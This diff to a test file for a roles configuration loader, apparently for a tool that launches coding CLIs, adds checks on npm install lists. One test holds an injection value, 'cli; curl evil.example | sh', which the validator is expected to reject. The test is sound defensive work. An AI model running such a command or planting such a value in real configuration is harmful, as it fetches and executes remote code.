@@ -29,6 +29,14 @@ describe('roles', () => {
     // The coding CLIs run only when spoken to: nothing to keep running, no port.
     for (const name of ['claude-code', 'codex', 'gemini', 'opencode'])
       expect(daemonOf(roles.get(name)!), name).toBeUndefined();
+    // What the golden image installs for each.
+    expect(['claude-code', 'codex', 'gemini', 'opencode'].map((n) => roles.get(n)!.install.npm)).toEqual([
+      ['@zed-industries/claude-agent-acp'],
+      ['@zed-industries/codex-acp'],
+      ['@google/gemini-cli'],
+      ['opencode-ai'],
+    ]);
+    expect(roles.get('swe')!.install.npm).toEqual([]);
     expect(roles.get('research')!.chat).toBeUndefined();
   });
 
@@ -50,6 +58,9 @@ describe('roles', () => {
     expect(() => load('agent: { command: [node] }\nchat: { protocol: acp, command: [cli] }\n')).toThrow(
       /cli\.yaml: agent: agent\.command and agent\.port go together/,
     );
+    expect(() =>
+      load("chat: { protocol: acp, command: [cli] }\ninstall: { npm: ['cli; curl evil.example | sh'] }\n"),
+    ).toThrow(/cli\.yaml: install\.npm\.0: an npm package such as/);
     expect(() => load('chat: { protocol: openai }\n')).toThrow(
       /cli\.yaml: chat\.protocol: openai talks to the agent's own port, so the role needs agent\.command and agent\.port/,
     );
